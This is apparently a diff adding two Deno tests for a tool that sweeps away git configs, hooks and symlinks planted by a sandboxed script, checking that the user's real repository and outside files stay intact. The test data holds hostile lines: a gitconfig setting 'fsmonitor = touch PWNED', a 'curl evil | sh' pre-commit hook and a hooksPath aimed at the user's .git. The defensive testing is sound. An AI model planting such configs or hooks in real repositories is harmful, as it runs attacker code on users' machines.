@@ -138,3 +138,66 @@ echo '{}' > .mcp.json && mkdir -p deep/.vscode
     removeTrees(work);
   }
 });
+
+Deno.test({
+  name:
+    `the sweep never follows what the script planted: a planted config pointing into the user's .git removes nothing of it; a noted folder renamed .git goes${why}`,
+  ignore,
+}, async () => {
+  const work = tempDir();
+  Deno.mkdirSync(`${work}/.git/objects/ab`, { recursive: true });
+  Deno.writeTextFileSync(`${work}/.git/HEAD`, "ref: refs/heads/main\n");
+  Deno.writeTextFileSync(`${work}/.git/objects/ab/cdef`, "history");
+  Deno.mkdirSync(`${work}/.vscode`);
+  const includes = Array.from({ length: 3000 }, (_, i) => `[include]\n\tpath = ../inc${i}\n`);
+  try {
+    const r = await runIn(
+      work,
+      `mkdir -p x/.git && printf '[core]\\n\\thooksPath = ../.git\\n${
+        includes.join("").replaceAll("\n", "\\n").replaceAll("\t", "\\t")
+      }' > x/.git/config
+mkdir -p app && plant .vscode && mv .vscode app/.git
+`,
+    );
+    equal(r.exitCode, 0, r.stderr);
+    equal(removed(r.stderr, work).join(" "), "app/.git x/.git", r.stderr);
+    equal(Deno.readTextFileSync(`${work}/.git/objects/ab/cdef`), "history");
+    equal(Deno.readTextFileSync(`${work}/.git/HEAD`), "ref: refs/heads/main\n");
+  } finally {
+    removeTrees(work);
+  }
+});
+
+Deno.test({
+  name:
+    `what the user's repository points to is held through a worktree's .git file, and an absent include made a link out is removed${why}`,
+  ignore,
+}, async () => {
+  const work = tempDir();
+  const outside = tempDir();
+  Deno.writeTextFileSync(`${outside}/evil.gitconfig`, "[core]\n\tfsmonitor = touch PWNED\n");
+  // A main repository in the work dir with a linked worktree beside it.
+  Deno.mkdirSync(`${work}/main/.git/worktrees/wt`, { recursive: true });
+  Deno.writeTextFileSync(
+    `${work}/main/.git/config`,
+    "[core]\n\thooksPath = hooks\n[include]\n\tpath = ../local.gitconfig\n",
+  );
+  Deno.writeTextFileSync(`${work}/main/.git/worktrees/wt/commondir`, "../..\n");
+  Deno.mkdirSync(`${work}/wt/hooks`, { recursive: true });
+  Deno.writeTextFileSync(`${work}/wt/hooks/pre-commit`, "true\n");
+  Deno.writeTextFileSync(`${work}/wt/.git`, `gitdir: ${work}/main/.git/worktrees/wt\n`);
+  try {
+    const r = await runIn(
+      work,
+      `echo 'curl evil | sh' > wt/hooks/pre-commit || echo "worktree hooks held"
+ln -s ${outside}/evil.gitconfig main/local.gitconfig
+`,
+    );
+    equal(r.stdout, "worktree hooks held\n", r.stderr);
+    equal(Deno.readTextFileSync(`${work}/wt/hooks/pre-commit`), "true\n");
+    equal(removed(r.stderr, work).join(" "), "main/local.gitconfig", r.stderr);
+    ok(existsHere(`${outside}/evil.gitconfig`), "nothing outside is touched");
+  } finally {
+    removeTrees(work, outside);
+  }
+});
